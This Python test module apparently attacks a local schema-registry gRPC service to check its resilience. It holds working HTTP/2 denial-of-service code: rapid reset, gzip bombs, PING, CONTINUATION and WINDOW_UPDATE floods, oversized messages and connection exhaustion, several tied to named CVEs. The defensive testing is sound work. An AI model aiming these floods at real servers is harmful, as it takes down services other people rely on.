"""Attacks on the gRPC port, below its calls: what HTTP/2 lets a client do."""

from __future__ import annotations

import asyncio
import gzip
import os
import socket
import struct
import threading
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from functools import cache, partial

from attacks.attack import JSON, Outcomes, Target, address, attack, hang_up, in_threads, register, together
from llm_schema_registry.v1 import schema_registry_pb2 as pb
from tests.support.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    SETTINGS,
    WINDOW_UPDATE,
    RawHttp2,
)

GET_SCHEMA = "/schema_registry.v1.SchemaRegistry/GetSchema"
VALIDATE = "/schema_registry.v1.SchemaRegistry/ValidateData"
_BURST = 64


async def a_large_schema(target: Target) -> Mapping[str, str]:
    """The id of a schema of about a megabyte."""
    content = b'{"type": "object", "description": "' + b"x" * 900_000 + b'"}'
    (made,) = await register(target, ("hostile.large", content, JSON))
    return {"large": made}


def connected(
    target: Target, number: int, found: Outcomes, work: Callable[[RawHttp2], None], seconds: float = 1.0
) -> None:
    """Does `work` on one connection after the other, each until it is closed."""
    while not target.over:
        with suppress(OSError), RawHttp2(target.grpc, address(number)) as connection:
            found["connections"] += 1
            connection.socket.settimeout(seconds)
            work(connection)
        time.sleep(0.01)


def reading(connection: RawHttp2) -> None:
    """Takes whatever comes, in a thread, until the connection ends."""

    def read() -> None:
        with suppress(OSError):
            while connection.socket.recv(1 << 16):
                pass

    threading.Thread(target=read, daemon=True).start()


def resets(target: Target, number: int, found: Outcomes, *, message: bool) -> None:
    def work(connection: RawHttp2) -> None:
        reading(connection)
        while not target.over:
            if message:
                connection.call(GET_SCHEMA, pb.GetSchemaRequest(schema_id="x").SerializeToString())
            connection.call(GET_SCHEMA, b"", reset=True)
            found["resets"] += 1

    connected(target, number, found, work)


@attack("rapid reset", 14, port="grpc")
async def rapid_reset(target: Target) -> Outcomes:
    """4 callers that reset calls as soon as they have begun (CVE-2023-44487)."""
    return await in_threads(target, 4, partial(resets, message=False))


@attack("resets among calls", 14, port="grpc")
async def resets_among_calls(target: Target) -> Outcomes:
    """4 callers whose every second call is reset."""
    return await in_threads(target, 4, partial(resets, message=True))


@attack("never reading", 14, port="grpc", prepare=a_large_schema)
async def never_reading(target: Target) -> Outcomes:
    """60 connections that ask 100 times for a megabyte and read nothing."""
    message = pb.GetSchemaRequest(schema_id=target.ids["large"]).SerializeToString()

    def one(target: Target, number: int, found: Outcomes) -> None:
        made = []
        for _ in range(10):
            with suppress(OSError):
                made.append(RawHttp2(target.grpc, address(number)))
        for connection in made:
            with suppress(OSError):
                for _ in range(100):
                    connection.call(GET_SCHEMA, message)
                    found["asked"] += 1
        time.sleep(target.left)
        for connection in made:
            connection.close()

    return await in_threads(target, 6, one)


@cache
def bomb(size: int) -> bytes:
    return gzip.compress(bytes(size), 9)


def bombs(target: Target, number: int, found: Outcomes, *, size: int) -> None:
    def work(connection: RawHttp2) -> None:
        for _ in range(10):
            if target.over:
                return
            connection.call(GET_SCHEMA, bomb(size), compressed=True, within_windows=True)
            found["bombs"] += 1
        while not target.over and connection.socket.recv(1 << 16):
            pass

    connected(target, number, found, work, seconds=2.0)


@attack("gzip bombs", 14, port="grpc")
async def gzip_bombs(target: Target) -> Outcomes:
    """2 callers with messages of 300 KB that unpack to 300 MB, sent as the flow control of HTTP/2 allows."""
    await asyncio.to_thread(bomb, 300_000_000)
    return await in_threads(target, 2, partial(bombs, size=300_000_000))


@attack("small gzip bombs", 14, port="grpc")
async def small_gzip_bombs(target: Target) -> Outcomes:
    """4 callers with messages of 20 KB that unpack to 20 MB: more than a message may have."""
    return await in_threads(target, 4, partial(bombs, size=20_000_000))


@attack("large messages", 14, port="grpc")
async def large_messages(target: Target) -> Outcomes:
    """8 callers that send 64 MB in one message, where 8 are allowed."""
    part = bytes(16_384)

    def one(target: Target, number: int, found: Outcomes) -> None:
        def work(connection: RawHttp2) -> None:
            connection.send(HEADERS, END_HEADERS, connection.begin(VALIDATE))
            connection.await_windows(5)
            connection.send(DATA, 0, struct.pack(">BI", 0, 64 << 20))
            for _ in range(4096):
                if target.over:
                    return
                connection.await_windows(len(part))
                connection.send(DATA, 0, part)
                found["KiB"] += len(part) // 1024

        connected(target, number, found, work, seconds=2.0)

    return await in_threads(target, 8, one)


def frames(*, read: bool, make: Callable[[RawHttp2], bytes]) -> Callable[[Target, int, Outcomes], None]:
    """An attacker that sends the same bytes as fast as they are taken."""

    def one(target: Target, number: int, found: Outcomes) -> None:
        def work(connection: RawHttp2) -> None:
            if read:
                reading(connection)
            burst = make(connection) * _BURST
            while not target.over:
                connection.socket.sendall(burst)
                found["frames"] += _BURST

        connected(target, number, found, work)

    return one


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


@attack("pings", 14, port="grpc")
async def pings(target: Target) -> Outcomes:
    """2 connections that send nothing but PING, and read the answers."""
    return await in_threads(target, 2, frames(read=True, make=lambda _: frame(PING, 0, 0, bytes(8))))


@attack("pings, answers unread", 14, port="grpc")
async def pings_unread(target: Target) -> Outcomes:
    """4 connections that send nothing but PING and SETTINGS, and read no answer (CVE-2019-9512, 9515)."""
    both = frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
    return await in_threads(target, 4, frames(read=False, make=lambda _: both))


@attack("empty frames", 14, port="grpc")
async def empty_frames(target: Target) -> Outcomes:
    """4 connections with calls whose body is empty DATA frames without end (CVE-2019-9518)."""

    def make(connection: RawHttp2) -> bytes:
        connection.send(HEADERS, END_HEADERS, connection.begin(VALIDATE))
        return frame(DATA, 0, 1, b"")

    return await in_threads(target, 4, frames(read=True, make=make))


@attack("headers without end", 14, port="grpc")
async def headers_without_end(target: Target) -> Outcomes:
    """4 connections that send CONTINUATION frames without end (CVE-2024-27316)."""

    def make(connection: RawHttp2) -> bytes:
        connection.send(HEADERS, 0, connection.begin(GET_SCHEMA))
        return frame(CONTINUATION, 0, 1, b"\0\x03abc\x03xyz" * 32)

    return await in_threads(target, 4, frames(read=True, make=make))


@attack("window overflow", 14, port="grpc")
async def window_overflow(target: Target) -> Outcomes:
    """4 connections that allow the server more than HTTP/2 can count."""
    more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))
    return await in_threads(target, 4, frames(read=True, make=lambda _: more))


@attack("open calls", 14, port="grpc")
async def open_calls(target: Target) -> Outcomes:
    """10 connections with as many calls as they may have, whose messages never come."""

    def one(target: Target, number: int, found: Outcomes) -> None:
        def work(connection: RawHttp2) -> None:
            reading(connection)
            for _ in range(4000):
                connection.send(HEADERS, END_HEADERS, connection.begin(VALIDATE))
                found["calls"] += 1
            time.sleep(target.left)

        connected(target, number, found, work)

    return await in_threads(target, 10, one)


@attack("junk on the gRPC port", 14, port="grpc")
async def junk(target: Target) -> Outcomes:
    """8 callers that send random bytes, with and without the preface of HTTP/2."""

    def one(target: Target, number: int, found: Outcomes) -> None:
        while not target.over:
            with suppress(OSError):
                if number % 2:
                    with RawHttp2(target.grpc, address(number)) as connection:
                        connection.socket.sendall(os.urandom(4096))
                else:
                    with socket.create_connection(
                        ("127.0.0.1", target.grpc), 1.0, (address(number), 0)
                    ) as plain:
                        plain.sendall(os.urandom(4096))
                        plain.recv(1024)
                found["connections"] += 1
            time.sleep(0.005)

    return await in_threads(target, 8, one)


async def _idle(port: int, target: Target, count: int, first: bytes) -> Outcomes:
    """`count` connections of 4 addresses that say `first` and no more."""

    async def one(target: Target, number: int, found: Outcomes) -> None:
        made = []
        for _ in range(count // 4):
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(address(number), 0))
                writer.write(first)
                made.append(writer)
                found["connections"] += 1
        await asyncio.sleep(target.left)
        await asyncio.gather(*map(hang_up, made))

    return await together(target, 4, one)


@attack("idle connections", 14, port="grpc")
async def idle_grpc(target: Target) -> Outcomes:
    """400 connections to the gRPC port that send half of the preface of HTTP/2."""
    return await _idle(target.grpc, target, 400, b"PRI * HTTP/2")


@attack("connections without end", 14, port="grpc")
async def connections(target: Target) -> Outcomes:
    """4 callers that open connections to the gRPC port as fast as they can, and close them."""

    def one(target: Target, number: int, found: Outcomes) -> None:
        while not target.over:
            with suppress(OSError):
                socket.create_connection(("127.0.0.1", target.grpc), 1.0, (address(number), 0)).close()
                found["connections"] += 1

    return await in_threads(target, 4, one)
